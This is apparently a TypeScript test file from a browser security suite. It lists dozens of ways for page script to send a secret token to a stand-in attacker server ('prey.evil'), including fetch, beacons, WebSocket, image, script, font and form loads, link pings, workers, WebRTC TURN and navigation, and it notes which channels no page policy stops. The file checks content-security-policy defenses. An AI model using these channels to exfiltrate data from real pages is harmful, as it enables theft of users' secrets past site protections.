import type { BrowserAttack, Run } from './browser-attack.ts';

/**
 * Ways to carry something out of the page. What counts is whether anything reached the attacker's server (that is looked
 * at after each); what these return only says what the page saw.
 */
const outside = (name: string, run: Run): BrowserAttack => ({ threat: 'T42, T45', from: 'our own page', name, run });

/**
 * An element that loads something from elsewhere.
 *
 * @param from the beginning of its address, as an expression of JavaScript
 */
const element = (
  tag: string,
  attribute: string,
  more: Readonly<Record<string, string>> = {},
  from = "prey.evil + '/'",
): Run =>
  `(prey) => new Promise((done) => {
    const element = document.createElement(${JSON.stringify(tag)});
    for (const [name, value] of Object.entries(${JSON.stringify(more)})) element.setAttribute(name, value);
    // A frame that the policy refuses is loaded all the same, with nothing in it; the refusal is told just before or after.
    const loaded = () => setTimeout(() => done('something that was loaded'), 250);
    element.onload = element.onloadeddata = loaded;
    element.onerror = () => done('refused');
    document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
    try {
      element.setAttribute(${JSON.stringify(attribute)}, ${from} + prey.token);
      document.body.append(element);
    } catch {
      done('refused');
    }
  })`;

/** The server of the attacker speaks no TLS: that somebody begins to is what reaches it. */
const BY_TLS = "prey.evil.replace('http:', 'https:') + '/'";
/** An image that needs no server; what follows `#` is no part of it. */
const IN_LINE = "'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==#'";

const fetched = (init: RequestInit): Run =>
  `(prey) => fetch(prey.evil + '/' + prey.token, ${JSON.stringify(init)}).then(() => 'sent', () => 'refused')`;

export const OUTSIDE_ATTACKS: readonly BrowserAttack[] = [
  outside('fetch', fetched({})),
  outside('fetch, no-cors', fetched({ mode: 'no-cors' })),
  outside('fetch, kept alive', fetched({ mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })),
  outside('fetch by another name', ({ evilName, token }) =>
    fetch(`${evilName}/${token}`, { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    ),
  ),
  outside(
    'XMLHttpRequest',
    ({ evil, token }) =>
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done('sent');
        request.onerror = () => done('refused');
        request.open('GET', `${evil}/${token}`);
        request.send();
      }),
  ),
  outside('a beacon', ({ evil, token }) => {
    navigator.sendBeacon(`${evil}/${token}`, token);
    return 'refused'; // it may be queued; what counts is that it does not arrive
  }),
  outside(
    'WebSocket',
    ({ evil, token }) =>
      new Promise((done) => {
        const socket = new WebSocket(`${evil.replace('http', 'ws')}/${token}`);
        socket.onopen = () => done('an open socket');
        socket.onerror = () => done('refused');
      }),
  ),
  outside(
    'EventSource',
    ({ evil, token }) =>
      new Promise((done) => {
        const source = new EventSource(`${evil}/${token}`);
        source.onopen = () => done('an open stream');
        source.onerror = () => {
          source.close();
          done('refused');
        };
      }),
  ),
  outside('an image', element('img', 'src')),
  outside('an image by TLS', element('img', 'src', {}, BY_TLS)),
  outside('an image that stands in its address', element('img', 'src', {}, IN_LINE)),
  outside('a sound by TLS', element('audio', 'src', {}, BY_TLS)),
  outside('a style sheet by TLS', element('link', 'href', { rel: 'stylesheet' }, BY_TLS)),
  outside('a script by TLS', element('script', 'src', {}, BY_TLS)),
  outside('a font by TLS', ({ evil, token }) =>
    new FontFace('stolen', `url(${evil.replace('http:', 'https:')}/${token})`).load().then(
      () => 'sent',
      () => 'refused',
    ),
  ),
  outside('fetch by TLS', ({ evil, token }) =>
    fetch(`${evil.replace('http:', 'https:')}/${token}`, { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    ),
  ),
  outside('a picture set', element('img', 'srcset')),
  outside('a video', element('video', 'src')),
  outside('a poster', element('video', 'poster')),
  outside('a sound', element('audio', 'src')),
  outside('a style sheet', element('link', 'href', { rel: 'stylesheet' })),
  outside('a preload', element('link', 'href', { rel: 'preload', as: 'image' })),
  outside('a preloaded module', element('link', 'href', { rel: 'modulepreload' })),
  outside('an icon', element('link', 'href', { rel: 'icon' })),
  outside('a manifest', element('link', 'href', { rel: 'manifest' })),
  outside('a frame', element('iframe', 'src')),
  outside('an object', element('object', 'data')),
  outside('an embed', element('embed', 'src')),
  outside('a script', element('script', 'src')),
  outside('an import', "({ evil, token }) => import(evil + '/' + token).then(() => 'a module', () => 'refused')"),
  outside('a background', ({ evil, token }) => {
    // Another address than those of images: what has been loaded is not asked for again.
    document.body.style.backgroundImage = `url(${evil}/${token}?background)`;
    document.body.getBoundingClientRect();
    return 'refused';
  }),
  outside('a font', ({ evil, token }) =>
    new FontFace('stolen', `url(${evil}/${token})`).load().then(
      () => 'sent',
      () => 'refused',
    ),
  ),
  outside('a form', ({ evil, token }) => {
    const form = document.createElement('form');
    form.action = `${evil}/${token}`;
    document.body.append(form);
    form.submit();
    return 'refused';
  }),
  outside('a form into a new window', ({ evil, token }) => {
    const form = document.createElement('form');
    form.action = `${evil}/${token}`;
    form.method = 'post';
    form.target = '_blank';
    document.body.append(form);
    form.submit();
    return 'refused';
  }),
  outside('another base', ({ evil }) => {
    const base = document.createElement('base');
    base.href = `${evil}/`;
    document.head.append(base);
    const is = document.baseURI.startsWith(evil) ? 'another base' : 'refused';
    base.remove();
    return is;
  }),
  outside('a ping of a link', ({ evil, token }) => {
    const link = document.createElement('a');
    link.href = '#stay';
    link.setAttribute('ping', `${evil}/${token}`);
    document.body.append(link);
    link.click();
    return 'refused';
  }),
  outside('a worker that fetches', ({ evil, token }) => {
    try {
      const code = `fetch('${evil}/${token}', { mode: 'no-cors' })`;
      new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      return 'a worker';
    } catch {
      return 'refused';
    }
  }),
];

/**
 * What no policy of a page stops, and what SECURITY.md therefore names as not promised: leaving the page for an address
 * that holds what was stolen, and WebRTC, for which Chromium knows no directive.
 */
export const UNSTOPPABLE_ATTACKS: readonly BrowserAttack[] = [
  outside(
    'a connection of WebRTC',
    ({ evil, token }) =>
      new Promise((done) => {
        const urls = `turn:${new URL(evil).host}?transport=tcp`;
        const connection = new RTCPeerConnection({ iceServers: [{ urls, username: token, credential: token }] });
        connection.createDataChannel('x');
        connection.onicegatheringstatechange = () => {
          if (connection.iceGatheringState !== 'complete') return;
          connection.close();
          done('refused');
        };
        connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      }),
  ),
  outside('leaving the page', ({ evil, token }) => {
    location.href = `${evil}/${token}`;
    return new Promise(() => undefined);
  }),
  // Chromium connects before it asks the policy. The address is not sent, but the name of the host is.
  outside('the beginning of a connection, for a frame that is refused', element('iframe', 'src', {}, BY_TLS)),
];
